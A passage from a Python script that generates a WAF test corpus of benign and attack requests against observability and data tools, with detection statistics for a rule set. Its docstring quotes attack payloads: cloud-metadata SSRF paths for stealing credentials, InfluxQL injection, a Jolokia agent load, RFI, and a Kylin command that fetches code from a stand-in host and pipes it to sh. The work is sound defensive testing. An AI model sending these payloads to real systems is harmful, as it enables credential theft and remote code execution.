#!/usr/bin/env python3
"""Held-out corpus: data, search and observability tools.

Usage::

    python3 scripts/corpus-dataops.py attacks > rulesets/tests/data/dataops-attacks.jsonl
    python3 scripts/corpus-dataops.py benign  > rulesets/tests/data/dataops-benign.jsonl

One JSON object per line in the shape of ``shared/corpora/README.md``: ``id``,
``set`` (always ``dataops``), ``category``, ``expect``, ``method``, ``uri``,
``version``, ``headers`` (Host, User-Agent, Content-Type and a Content-Length equal
to the UTF-8 length of the body) and ``body``; a request whose body is not UTF-8
text (a snappy-compressed Prometheus remote-write, a gzip-compressed log push, a
Java serialization stream, a UTF-16 XML file) is given as ``raw_b64`` instead, the
complete request base64-encoded.  Output is deterministic: every random choice
(hosts, user agents, tokens, ids, timestamps, which template, which encoding) comes
from ``random.Random`` seeded with a fixed seed.

The corpus was written blind: from knowledge of what these tools really send and
receive (their HTTP APIs and front-ends) and of how their published CVEs are really
exploited (vendor advisories, public exploits, PayloadsAllTheThings, HackTricks),
never from the WAF's rules, its tests or the other corpora.  Attack requests use
ordinary user agents (browsers, curl, python-requests), never scanner names, so a
detection is earned by the payload.

Why this workload
-----------------
Grafana, Kibana/OpenSearch Dashboards, Elasticsearch/OpenSearch, Prometheus and its
relatives, Loki, Tempo, Jaeger, InfluxDB, ClickHouse, Metabase, Superset, Redash,
Jupyter, Airflow, MLflow, Argo Workflows, Kafka REST and the ingestion endpoints of
logs, metrics and traces are where users legitimately submit query languages and
expressions (PromQL ``{code!~"2.."}``, LogQL ``|= "error" | json``, Lucene
``status:>=500 AND NOT path:"/healthz"``, Go and Jinja templates in alert
annotations, stack traces and SQL statements inside telemetry) -- a large source of
false positives -- and where well-known CVEs live.

Benign requests (``expect: pass``, ``category: benign``)
---------------------------------------------------------
``id`` is ``dataops/benign/<sub-label>/<n>``.  Sub-labels:

``promql``
    Prometheus, Thanos, Mimir and VictoriaMetrics HTTP API: ``/api/v1/query`` and
    ``query_range`` (GET and form POST) with rate(), histogram_quantile,
    regex matchers, offset/@, by/without, ``or``/``and``/``unless``, subqueries,
    group_left joins; series, labels, federate, metadata, targets; the Grafana
    datasource proxy.
``grafana``
    Grafana front-end API: ``/api/ds/query`` with Prometheus/Loki/Elasticsearch/
    Tempo/InfluxDB(Flux)/expression datasource refs, dashboard saves (panels,
    templating, ``$__rate_interval``, ``${var:regex}``, data links, markdown and
    HTML text panels), annotations, search, folders, datasources with internal URLs,
    renders, avatars, plugin assets.
``alerting``
    Grafana alert rules and notification templates (Go templates), Alertmanager
    silences and webhook payloads, Mimir/Cortex ruler YAML.
``logql``
    Loki query_range, labels, series and push (JSON); LogQL with pipelines,
    ``line_format "{{.msg}}"``, pattern/regexp parsers, unwrap.
``traces``
    Tempo TraceQL search, Jaeger query API (tags JSON), trace lookups.
``kibana``
    Kibana / OpenSearch Dashboards: bsearch with KQL and Lucene, saved searches and
    Lens formulas, console proxy, alerting rules, rison reporting job params,
    saved-object import (multipart NDJSON).
``es-dsl``
    Elasticsearch/OpenSearch: ``_search`` bodies (bool/must/filter/range,
    aggregations, highlight, runtime fields), ``_bulk`` and ``_msearch`` NDJSON,
    ``_count``, ES|QL, EQL, index templates, ILM, ``_cat`` APIs, local ``_reindex``,
    ``_update_by_query`` with a plain Painless script.
``influx``
    InfluxDB: Flux queries, line-protocol writes, ``SHOW`` statements.
``otlp``
    OpenTelemetry OTLP/HTTP JSON traces, logs and metrics: resource attributes,
    HTTP and DB spans (``db.statement`` SQL), exception events with stack traces.
``logs``
    Log shipping: Elasticsearch ``_bulk`` from Filebeat, Splunk HEC, Datadog,
    GELF, Fluent Bit/Vector/Logstash HTTP, Loki push; ordinary application logs:
    404s, timeouts, Java/Python/Node/Go/Ruby stack traces, ORM SQL timings;
    gzip-compressed pushes (``raw_b64``).
``metrics``
    Pushgateway text exposition, Datadog series, OpenTSDB put, VictoriaMetrics
    import, Prometheus remote-write (snappy protobuf, ``raw_b64``).
``kafka``
    Kafka REST proxy v2/v3 produce (JSON, binary, Avro), consumers, Schema Registry.
``jupyter``
    Jupyter contents API notebook saves (pandas, matplotlib, scikit-learn cells,
    HTML DataFrame outputs), sessions, kernels, checkpoints.
``airflow``
    Airflow REST API: DAG runs with conf JSON, variables, connections, task logs.
``mlflow``
    MLflow tracking API: runs, log-batch, search filters, registered models,
    artifacts.
``argo``
    Argo Workflows: workflow submissions (container args), template submits, lists
    with label selectors, logs.
``bi``
    Metabase MBQL and card/dashboard queries with parameters, Superset chart data
    and rison list queries, Redash parameterised query results.
``dev-content``
    Requests that legitimately carry SQL or code that a WAF in front of an
    ordinary application would rightly flag: Metabase native questions, Superset
    SQL Lab (also with Jinja ``filter_values``), Redash queries, ClickHouse SQL over
    HTTP, InfluxQL ``SELECT``, Grafana SQL datasource ``rawSql``, Elasticsearch and
    OpenSearch SQL, Jupyter cells with ``os.system``/``subprocess``/``!``/``%%sql``,
    Argo ``sh -c`` containers and script templates.

Attack requests (``expect: detect``)
------------------------------------
``id`` is ``dataops/<category>/<sub-label>/<n>``; ``category`` is the OWASP class
(``sqli``, ``xss``, ``lfi``, ``rfi``, ``rce``, ``php``, ``java``, ``ssrf``, ``xxe``,
``ssti``, ``nosqli``, ``ldapi``, ``crlf``, ``generic``, ``protocol``); the sub-label
names the tool or carrier.  Among them: Grafana plugin path traversal
(CVE-2021-43798, with encodings), Grafana SQL expressions/DuckDB (CVE-2024-9264),
Grafana SSRF through datasources, avatar (CVE-2020-13379) and the 2025 open
redirect, Grafana stored XSS (snapshots, titles, links, AngularJS CVE-2021-41174);
Kibana Timelion prototype pollution (CVE-2019-7609), Kibana console LFI
(CVE-2018-17246); Elasticsearch MVEL/Groovy/Painless scripts (CVE-2014-3120,
CVE-2015-1427), snapshot traversal (CVE-2015-5531), remote ``_reindex`` and
watcher SSRF; Metabase H2 JDBC (CVE-2023-38646) and GeoJSON (CVE-2021-41277);
Superset/Airflow Jinja SSTI; MLflow artifact traversal (CVE-2023-1177 and
successors); Airflow example-DAG command injection (CVE-2020-11978,
CVE-2022-40127); Solr xmlparser XXE and RunExecutableListener (CVE-2017-12629),
Velocity (CVE-2019-17558), DataImportHandler (CVE-2019-0193), replication and
shards SSRF; Druid JavaScript (CVE-2021-25646); Apache Unomi MVEL/OGNL
(CVE-2020-13942); Kafka Connect JNDI (CVE-2023-25194); Spring actuator, gateway
and function SpEL; Jolokia MLet; Flink (CVE-2020-17519), Spark doAs
(CVE-2022-33891), OpenTSDB (CVE-2020-35476), Cacti (CVE-2022-46169), Zabbix
(CVE-2016-10134), Hadoop YARN, blackbox-exporter and jupyter-server-proxy SSRF;
Log4Shell in headers, parameters and log-ingestion bodies (nested lookups);
SQL injection in dashboard filter parameters and in application APIs built over
ClickHouse and InfluxDB; NoSQL operators, LDAP filters, CRLF in redirect and
filename parameters, XXE in XML imports, PHP wrappers and RFI in PHP monitoring
front-ends, request smuggling against ingestion endpoints.

First sight (2026-12-05, palisade-rules at 460517d)
---------------------------------------------------
Measured with ``/tmp/pr-460517d eval`` (a copy of ``palisade-rules`` built at 460517d, built-in
rules, default threshold 5) on the corpus exactly as generated here, before anything was changed
for it.  A request counts as detected/blocked when its verdict is not ``pass``.

Attacks: 547 requests; detected at PL1 532/547 (97.3 %), at PL2 543/547 (99.3 %).

=========  ====  ================  ================
category      n   PL1               PL2
=========  ====  ================  ================
crlf         21  21/21 (100.0 %)   21/21 (100.0 %)
generic      21  21/21 (100.0 %)   21/21 (100.0 %)
java         76  75/76 (98.7 %)    76/76 (100.0 %)
ldapi        18  18/18 (100.0 %)   18/18 (100.0 %)
lfi          82  81/82 (98.8 %)    82/82 (100.0 %)
nosqli       22  21/22 (95.5 %)    22/22 (100.0 %)
php          15  15/15 (100.0 %)   15/15 (100.0 %)
protocol     13  12/13 (92.3 %)    13/13 (100.0 %)
rce          48  47/48 (97.9 %)    47/48 (97.9 %)
rfi          12  11/12 (91.7 %)    12/12 (100.0 %)
sqli         61  58/61 (95.1 %)    60/61 (98.4 %)
ssrf         49  43/49 (87.8 %)    47/49 (95.9 %)
ssti         35  35/35 (100.0 %)   35/35 (100.0 %)
xss          50  50/50 (100.0 %)   50/50 (100.0 %)
xxe          24  24/24 (100.0 %)   24/24 (100.0 %)
=========  ====  ================  ================

Attack requests per sub-label (every sub-label not named under the misses below was
detected in full at PL1):

* crlf: header-fields 5, redirect-params 16
* generic: kibana-timelion 5, node-injection 7, prototype-pollution 9
* java: deserialization 6, druid-js 3, elasticsearch-script 8, jolokia 3,
  kafka-connect-jndi 2, log4shell-headers 18, log4shell-ingest 13, log4shell-params 8,
  metabase-h2 5, solr-dih 2, spel 6, unomi 2
* ldapi: airflow-login 2, grafana-login 2, jupyterhub-login 2, superset-login 2,
  user-lookup 9, zabbix-login 1
* lfi: downloads 12, druid 2, elasticsearch 6, flink 4, grafana-duckdb 4,
  grafana-plugins 26, jupyter 5, kibana-console 4, metabase-geojson 6,
  mlflow-artifacts 9, solr 3, superset 1
* nosqli: mongo-api 22
* php: php-monitoring 15
* protocol: request-line 3, smuggling 10
* rce: airflow-conf 8, argo-params 5, cacti 3, diagnostics 14, grafana-duckdb 3,
  jupyter-params 3, kylin 2, opentsdb 3, solr 2, spark 3, yarn 2
* rfi: php-monitoring 12
* sqli: clickhouse-app 10, export-app 5, grafana-vars 5, headers 3, influx-app 9,
  log-search-app 5, metabase-public 4, nagios 1, order-by 2, redash-params 5,
  superset-filters 5, superset-urlparams 4, zabbix 3
* ssrf: airflow 2, alertmanager 1, blackbox-exporter 3, druid 2, elasticsearch 6,
  grafana-avatar 4, grafana-datasource 15, jupyter-proxy 3, kafka-connect 1, kibana 2,
  metabase-geojson 4, redash 2, solr 4
* ssti: airflow-jinja 6, report-templates 12, solr-velocity 3, superset-jinja 14
* xss: airflow 3, alertmanager 1, error-reflect 10, grafana-angular 2,
  grafana-snapshot 4, grafana-stored 10, jupyter-notebook 3, kibana-stored 3,
  log-ingest 2, metabase-stored 3, mlflow 3, redash-stored 3, superset-stored 3
* xxe: report-import 3, solr-dih 1, solr-update 3, solr-xmlparser 5, xml-import 9,
  zabbix-import 3

Benign: 626 requests, 548 ordinary and 78 dev-content (12.5 %).
Blocked at PL1: 146 (23.3 %); ordinary 83/548 (15.1 %), dev-content 63/78 (80.8 %).
Blocked at PL2: 259 (41.4 %); ordinary 187/548 (34.1 %), dev-content 72/78 (92.3 %).

===========  ===  ======  ======
sub-label      n  PL1     PL2
===========  ===  ======  ======
airflow       20       0       0
alerting      24       0       6
argo          14       0       0
bi            27       0       0
dev-content   78      63      72
es-dsl        56       5      15
grafana       62       6      30
influx        22       3       7
jupyter       18       4       9
kafka         18       0       3
kibana        40       3       8
logql         40       2      15
logs          42      26      28
metrics       21       3       6
mlflow        20       2       4
otlp          32      24      24
promql        64       0      21
traces        28       5      11
===========  ===  ======  ======

Attacks let through at PL1 (15).  The four marked (PL2 miss) also pass at PL2; five of the
eleven caught at PL2 are caught only by rce-180 matching the ``curl/`` User-Agent, not by
the payload (lfi/grafana-duckdb/2, ssrf/grafana-datasource/12, ssrf/jupyter-proxy/1 and 3,
rfi/php-monitoring/12).

* Cloud-metadata paths behind a proxying route (7): ssrf/grafana-datasource/11 (PL2 miss)
  ``GET /api/datasources/proxy/3/latest/meta-data/iam/security-credentials/``;
  ssrf/grafana-datasource/12 ``.../proxy/uid/pwn/computeMetadata/v1/instance/service-accounts/default/token``;
  ssrf/grafana-datasource/13 ``.../proxy/7/metadata/identity/oauth2/token?api-version=...&resource=https://management.azure.com/``;
  ssrf/jupyter-proxy/1 ``/proxy/169.254.169.254/latest/meta-data/iam/security-credentials/``;
  ssrf/jupyter-proxy/2 (PL2 miss) ``/user/<u>/proxy/169.254.169.254:80/latest/api/token``;
  ssrf/jupyter-proxy/3 ``/proxy/metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys``;
  protocol/request-line/2: absolute-form request line
  ``GET http://169.254.169.254/latest/meta-data/iam/security-credentials/`` with
  ``Host: 169.254.169.254`` (open-proxy abuse).
* Grafana SQL expression (CVE-2024-9264) reading a file without a traversal or /etc path:
  lfi/grafana-duckdb/2 ``SELECT content FROM read_text('/var/lib/grafana/grafana.db')``.
* InfluxQL injection in an application parameter: sqli/influx-app/8
  ``host=x' OR host =~ /.*/ --``; sqli/influx-app/9 ``host=web-01'; SHOW USERS; --``.
* sqli/zabbix/1 (PL2 miss): the CVE-2016-10134 check ``profileIdx2=2'3297`` in
  ``/zabbix/jsrpc.php`` (a lone quote inside a number).
* java/jolokia/3: Jolokia ``EXEC com.sun.management:type=DiagnosticCommand``
  ``jvmtiAgentLoad ["/tmp/libpwn.so"]`` (score 3, lfi-201 on ``/tmp/`` only).
* rce/kylin/2 (PL2 miss): CVE-2020-1956 command in a path segment,
  ``/kylin/api/cubes/kylin_sales_cube/%60curl%20http%3A%2F%2F203.0.113.9%2Fk%7Csh%60/migrate``.
* nosqli/mongo-api/7: nested bracket operators in a query string,
  ``?filter[author][$regex]=^a.*&filter[private][$ne]=true``.
* rfi/php-monitoring/12: scheme-relative include ``/templates/load.php?tpl=//203.0.113.9/tpl.php``.

Ordinary benign requests blocked at PL1 (83 of 548), by cause.  Most requests have several
causes; the count after each cause is the number of blocked requests it appears in.

* Telemetry and log shipping (54: logs 26, otlp 24, es-dsl 4 ``_bulk`` batches es-dsl/5,
  18, 31, 44).  Causes: SQL text (36) -- OTel ``db.statement`` attributes
  (``SELECT p.id, p.name, p.price FROM ...``, ``UPDATE inventory SET reserved = ...``,
  ``INSERT INTO audit_log ... VALUES``) and ORM debug lines (Hibernate ``select ... from``,
  SQLAlchemy, Django, Rails, Prisma, gorm, Postgres ``duration: ... execute``) -- sqli-011,
  sqli-041, sqli-022, sqli-002, and rce-104/rce-140 on the backquoted identifiers of gorm
  lines (`sessions`.`id`); log file paths (25) -- Filebeat/OTel ``log.file.path``
  ``/var/log/nginx/access.log``, ``/var/log/pods/<app>/0.log``, HEC ``source``
  ``/var/log/app/app.log`` -- lfi-200, lfi-260, lfi-261; Java stack-trace class names (18)
  ``java.net.SocketTimeoutException``, ``org.postgresql.util.PSQLException``,
  ``jdk.internal.reflect...`` and the ``org.hibernate.SQL`` logger name -- java-110 on BODY; nginx error-log
  ``upstream: "http://10.x.x.x:8080/..."`` (12) -- rfi-100; Python tracebacks
  ``File "/usr/local/lib/python3.11/...`` (11) -- rce-114; Go panic ``pc=0x4a3f2e`` (2) --
  sqli-080; MongoDB ``db.statement`` ``{"$gte":"?"}`` (2) -- nosqli-110, nosqli-120; Java
  frame ``OrderService.confirm(`` (1, otlp/19) -- xss-042.
  Ids: es-dsl/5, 18, 31, 44; logs/1, 2, 3, 4, 5, 6, 8, 11, 12, 13, 14, 16, 18, 21, 22, 23,
  25, 26, 28, 31, 33, 34, 36, 38, 41, 42; otlp/1, 2, 3, 4, 7, 8, 9, 11, 12, 13, 14, 16,
  17, 18, 19, 21, 22, 23, 24, 26, 28, 29, 31, 32.
* Query languages with quoted comparisons (25), sqli-020 and/or sqli-002:
  TraceQL ``{ ... = "checkout" && status = error }`` / ``&& .http.route = "..."`` --
  traces/1, 9, 13, 21, 25 (ARGS:q), grafana/23, 26 (Tempo target in ``/api/ds/query``);
  LogQL ``|= "error" != "healthz"`` -- logql/2, 22 (ARGS:query), grafana/58 (dashboard
  target), grafana/60 (explore ``panes`` JSON in the URL); KQL
  ``labels.env : "prod" and transaction.duration.us > 1000000`` and
  ``@timestamp >= "2026-12-01" and @timestamp < "2026-12-05"`` -- kibana/23, 25, 26;
  ES|QL ``... == "checkout" AND @timestamp > NOW() - 1 hour`` -- es-dsl/51; MLflow run
  filter ``metrics.rmse < 0.5 and params.model_type = 'xgboost' and attributes.status =
  'FINISHED'`` -- mlflow/12, 20; pandas ``df.query("country == 'FR' and revenue > 1000")``
  in a notebook cell -- jupyter/2, 3, 9, 15; libinjection fingerprint (sqli-002) of the PromQL
  annotation ``changes(kube_deployment_status_observed_generation{namespace=~"$namespace"}[2m]) > 0``
  in dashboard saves -- grafana/52, 54, 58, and of Flux ``data = from(bucket: ...) |> range(...)``
  -- influx/9, 16.
* Markdown text panel with the code span `POST /checkout/confirm` -- xss-042 (grafana/52, 54).
* Jupyter DataFrame HTML output ``<style scoped>`` in saved notebooks -- xss-002, xss-011
  (jupyter/2, 3, 15).
* InfluxDB's own query media type ``Content-Type: application/vnd.flux`` -- protocol-110
  (influx/9, 15, 16).
* Prometheus remote-write ``Content-Encoding: snappy`` -- protocol-530
  "encoding-unsupported" (metrics/5, 12, 19: every remote-write request in the corpus).

Dev-content: 63 of 78 blocked at PL1 (72 at PL2), mostly sqli-011, sqli-002, sqli-020,
sqli-022 on the SQL itself.
"""

import base64
import collections
import gzip
import json
import random
import struct
import sys
import urllib.parse

SET = "dataops"
SEED = 46051712
BASE = 1796457600  # 2026-12-05T08:00:00Z

# --------------------------------------------------------------------- helpers


def jdump(o, pretty=False, ascii_only=False):
    if pretty:
        return json.dumps(o, indent=2, ensure_ascii=ascii_only)
    return json.dumps(o, separators=(",", ":"), ensure_ascii=ascii_only)


def enc(s, safe="-_.!~*'()"):
    """encodeURIComponent."""
    return urllib.parse.quote(s, safe=safe)


def encp(s):
    """application/x-www-form-urlencoded (spaces as +)."""
    return urllib.parse.quote_plus(s, safe="")


def penc(s):
    """What a hand-written exploit sends: only spaces, controls, quotes, # and & encoded."""
    return urllib.parse.quote(s, safe=";|$(){}`',/:*?@!~=<>[]\\^")


def qs(pairs, f=enc, keys=True):
    return "&".join(f"{f(k) if keys else k}={f(str(v))}" for k, v in pairs)


def form(pairs):
    return "&".join(f"{encp(k)}={encp(str(v))}" for k, v in pairs)


def pb_varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_bytes(field, b):
    if isinstance(b, str):
        b = b.encode()
    return pb_varint(field << 3 | 2) + pb_varint(len(b)) + b


def pb_double(field, v):
    return pb_varint(field << 3 | 1) + struct.pack("<d", v)


def pb_int(field, v):
    return pb_varint(field << 3) + pb_varint(v)


def snappy_compress(data):
    """Snappy block format (what Prometheus remote-write sends): greedy 4-byte matches."""
    out = bytearray(pb_varint(len(data)))
    n = len(data)

    def literal(s, e):
        while s < e:
            ln = min(e - s, 65536)
            l1 = ln - 1
            if l1 < 60:
                out.append(l1 << 2)
            elif l1 < 256:
                out.append(60 << 2)
                out.append(l1)
            else:
                out.append(61 << 2)
                out.extend(struct.pack("<H", l1))
            out.extend(data[s:s + ln])
            s += ln

    table = {}
    i = lit = 0
    while i + 4 <= n:
        key = data[i:i + 4]
        j = table.get(key)
        table[key] = i
        if j is not None and i - j < 65536:
            m = 4
            while i + m < n and data[j + m] == data[i + m]:
                m += 1
            literal(lit, i)
            left = m
            while left > 0:
                c = min(left, 64)
                out.append(((c - 1) << 2) | 2)
                out.extend(struct.pack("<H", i - j))
                left -= c
            i += m
            lit = i
        else:
            i += 1
    literal(lit, n)
    return bytes(out)


def snappy_decompress(buf):
    """Only used by the validation: checks that the compressor round-trips."""
    pos = 0
    shift = length = 0
    while True:
        b = buf[pos]
        pos += 1
        length |= (b & 0x7F) << shift
        shift += 7
        if not b & 0x80:
            break
    out = bytearray()
    while pos < len(buf):
        tag = buf[pos]
        pos += 1
        t = tag & 3
        if t == 0:
            ln = tag >> 2
            if ln == 60:
                ln = buf[pos]
                pos += 1
            elif ln == 61:
                ln = struct.unpack("<H", buf[pos:pos + 2])[0]
                pos += 2
            ln += 1
            out.extend(buf[pos:pos + ln])
            pos += ln
        elif t == 2:
            ln = (tag >> 2) + 1
            off = struct.unpack("<H", buf[pos:pos + 2])[0]
            pos += 2
            for _ in range(ln):
                out.append(out[-off])
        else:
            raise ValueError("unexpected tag")
    assert len(out) == length
    return bytes(out)


UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
]
UA_ATTACK = [
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
]

H_GRAFANA = ["grafana.acme-corp.com", "grafana.internal.example.net", "monitoring.example.org", "grafana.prod-eu1.example.io"]
H_KIBANA = ["kibana.acme-corp.com", "logs.example.org", "dashboards.opensearch.internal.example.net"]
H_ES = ["es.internal.example.net:9200", "elasticsearch.logging.svc:9200", "search-prod.example.io", "opensearch.internal.example.net:9200"]
H_PROM = ["prometheus.internal.example.net", "prometheus.monitoring.svc:9090", "thanos-query.example.io", "mimir.internal.example.net", "vmselect.example.org:8481"]
H_LOKI = ["loki.internal.example.net:3100", "loki-gateway.monitoring.svc", "logs-push.example.io"]
H_TEMPO = ["tempo.internal.example.net:3200", "tempo-query-frontend.tracing.svc:3200"]
H_JAEGER = ["jaeger.acme-corp.com", "jaeger-query.tracing.svc:16686"]
H_INFLUX = ["influxdb.internal.example.net:8086", "influx.example.org", "metrics-db.example.io:8086"]
H_CH = ["clickhouse.internal.example.net:8123", "ch-analytics.example.io:8443", "clickhouse.data.svc:8123"]
H_METABASE = ["metabase.acme-corp.com", "bi.example.org"]
H_SUPERSET = ["superset.acme-corp.com", "superset.analytics.example.io"]
H_REDASH = ["redash.acme-corp.com", "redash.example.org"]
H_JUPYTER = ["jupyter.acme-corp.com", "hub.datasci.example.org", "notebooks.internal.example.net"]
H_AIRFLOW = ["airflow.acme-corp.com", "airflow.data.example.io:8080"]
H_MLFLOW = ["mlflow.acme-corp.com", "mlflow.ml.example.io:5000"]
H_ARGO = ["argo.acme-corp.com", "workflows.ci.example.io:2746"]
H_KAFKA = ["kafka-rest.internal.example.net:8082", "rest-proxy.events.example.io"]
H_OTLP = ["otel-collector.observability.svc:4318", "otlp.example.io", "ingest.telemetry.example.net"]
H_INGEST = ["logs.example.io", "ingest.internal.example.net", "http-intake.logs.datadoghq.eu", "splunk-hec.acme-corp.com:8088", "graylog.internal.example.net:12201"]
H_SOLR = ["solr.internal.example.net:8983", "search.example.org:8983"]
H_DRUID = ["druid.internal.example.net:8888", "druid-router.data.svc:8888"]
H_ZABBIX = ["zabbix.acme-corp.com", "monitor.example.org"]

JOBS = ["api", "web", "checkout", "payments", "auth", "search", "cart", "inventory", "notifications", "gateway", "ingest", "billing"]
NAMESPACES = ["prod", "staging", "monitoring", "default", "payments", "data"]
ROUTES = ["/api/orders/{id}", "/api/orders", "/api/cart", "/api/v1/search", "/healthz", "/api/users/{id}/profile", "/checkout/confirm", "/api/v2/products"]
LEVELS = ["info", "warn", "error", "debug"]
REGIONS = ["eu-west-1", "eu-central-1", "us-east-1", "ap-northeast-1"]
USERS = ["anna", "bjorn", "chen.wei", "d.okafor", "eva.muller", "f.rossi", "gita", "hiro.tanaka", "isabel", "jkowalski", "oncall-bot"]


class Corpus:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.lines = []
        self.n = collections.Counter()
        self.seen = set()
        self.dups = 0

    # ---- random bits
    def hex(self, n=32):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def tok(self, n=24, alpha="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
        return "".join(self.rng.choice(alpha) for _ in range(n))

    def uuid(self):
        h = self.hex(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{self.rng.choice('89ab')}{h[17:20]}-{h[20:32]}"

    def pick(self, seq):
        return self.rng.choice(seq)

    def ip(self):
        return f"10.{self.rng.randint(0, 40)}.{self.rng.randint(0, 255)}.{self.rng.randint(2, 254)}"

    def pod(self, app=None):
        app = app or self.pick(JOBS)
        return f"{app}-{self.hex(9)[:9].replace('a','7')}-{self.tok(5, 'bcdfghjklmnpqrstvwxz2456789')}"

    def ts(self, back=0, jitter=3600):
        return BASE - back - self.rng.randint(0, jitter)

    def oast(self):
        return f"{self.tok(20, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{self.pick(['oast.fun', 'oast.pro', 'oast.live', 'interact.sh', 'oast.site'])}"

    def evil_ip(self):
        return self.pick(["203.0.113.9", "198.51.100.23", "203.0.113.77", "192.0.2.145", "198.51.100.201"])

    # ---- output
    def emit(self, category, sub, method, uri, headers, body=None, raw=None, expect=None):
        expect = expect or ("pass" if category == "benign" else "detect")
        key = (category, sub)
        self.n[key] += 1
        rid = f"{SET}/{category}/{sub}/{self.n[key]}"
        if raw is not None:
            sig = ("raw", raw)
            obj = {"id": rid, "set": SET, "category": category, "expect": expect,
                   "raw_b64": base64.b64encode(raw).decode()}
        else:
            headers = list(headers)
            if body is not None and not any(h[0].lower() == "content-length" for h in headers):
                headers.append(["Content-Length", str(len(body.encode("utf-8")))])
            headers = [list(h) for h in headers]
            sig = (method, uri, body, jdump(headers))
            obj = {"id": rid, "set": SET, "category": category, "expect": expect,
                   "method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers}
            if body is not None:
                obj["body"] = body
        if sig in self.seen:
            self.dups += 1
        self.seen.add(sig)
        self.lines.append(obj)


def hdrs(c, host, ua=None, ctype=None, accept=None, extra=()):
    h = [["Host", host], ["User-Agent", ua or c.pick(UA_BROWSER)]]
    if accept:
        h.append(["Accept", accept])
    for e in extra:
        h.append(list(e))
    if ctype:
        h.append(["Content-Type", ctype])
    return h


def raw_request(method, uri, headers, body=b""):
    head = f"{method} {uri} HTTP/1.1\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers)
    if body is not None and not any(k.lower() in ("content-length", "transfer-encoding") for k, _ in headers):
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode("latin-1") + b"\r\n" + (body or b"")


# tool-specific header sets -------------------------------------------------------

def g_extra(c, dash=True):
    e = [["Accept", "application/json, text/plain, */*"], ["X-Grafana-Org-Id", "1"]]
    if dash:
        e += [["X-Dashboard-Uid", c.tok(9, "abcdefghijklmnopqrstuvwxyz0123456789")], ["X-Panel-Id", str(c.rng.randint(1, 40))]]
    e.append(["Cookie", f"grafana_session={c.hex(32)}; grafana_session_expiry={BASE + 600}"])
    return e


def kbn_extra(c, osd=False):
    if osd:
        return [["Accept", "*/*"], ["osd-xsrf", "osd-fetch"], ["osd-version", "2.17.1"],
                ["Cookie", f"security_authentication=Fe26.2**{c.hex(64)}*{c.tok(22)}*{c.tok(86)}**{c.hex(64)}*{c.tok(43)}"]]
    return [["Accept", "*/*"], ["kbn-xsrf", "true"], ["kbn-version", "8.15.3"], ["x-elastic-internal-origin", "Kibana"],
            ["Cookie", f"sid=Fe26.2**{c.hex(64)}*{c.tok(22)}*{c.tok(86)}**{c.hex(64)}*{c.tok(43)}"]]


def es_extra(c):
    if c.rng.random() < 0.5:
        return [["Accept", "application/vnd.elasticsearch+json; compatible-with=8"], ["Authorization", "ApiKey " + base64.b64encode(f"{c.tok(20)}:{c.tok(22)}".encode()).decode()],
                ["X-Elastic-Client-Meta", "es=8.15.1,py=3.11.9,t=8.15.0,ur=2.2.3"]]
    return [["Accept", "application/json"], ["Authorization", "Basic " + base64.b64encode(f"logstash_writer:{c.tok(16)}".encode()).decode()]]


def jup_extra(c):
    x = f"2|{c.hex(8)}|{c.hex(32)}|{BASE - 86400}"
    return [["Accept", "application/json"], ["X-XSRFToken", x], ["Authorization", f"token {c.hex(48)}"],
            ["Cookie", f"_xsrf={x}; jupyterhub-session-id={c.hex(32)}"]]


def af_extra(c):
    return [["Accept", "application/json"], ["Authorization", "Basic " + base64.b64encode(f"{c.pick(USERS)}:{c.tok(14)}".encode()).decode()]]


def ss_extra(c):
    return [["Accept", "application/json"], ["X-CSRFToken", f"Ij{c.tok(40)}.{c.tok(6)}.{c.tok(27)}"],
            ["Cookie", f"session=.eJw{c.tok(120)}.{c.tok(6)}.{c.tok(27)}"]]


def mb_extra(c):
    return [["Accept", "application/json"], ["X-Metabase-Session", c.uuid()]]


# ============================================================================ BENIGN

PROMQL = [
    'sum(rate(http_requests_total{job="<<job>>", code=~"5.."}[5m])) by (route)',
    'histogram_quantile(0.<<q>>, sum by (le, route) (rate(http_request_duration_seconds_bucket{job=~"api|web"}[5m])))',
    'sum(rate(http_requests_total{job=~"api|web", code!~"2.."}[5m])) / sum(rate(http_requests_total{job=~"api|web"}[5m]))',
    'rate(node_cpu_seconds_total{mode!="idle", instance="<<inst>>"}[1m])',
    '100 - (avg by (instance) (rate(node_cpu_seconds_total{mode="idle"}[5m])) * 100)',
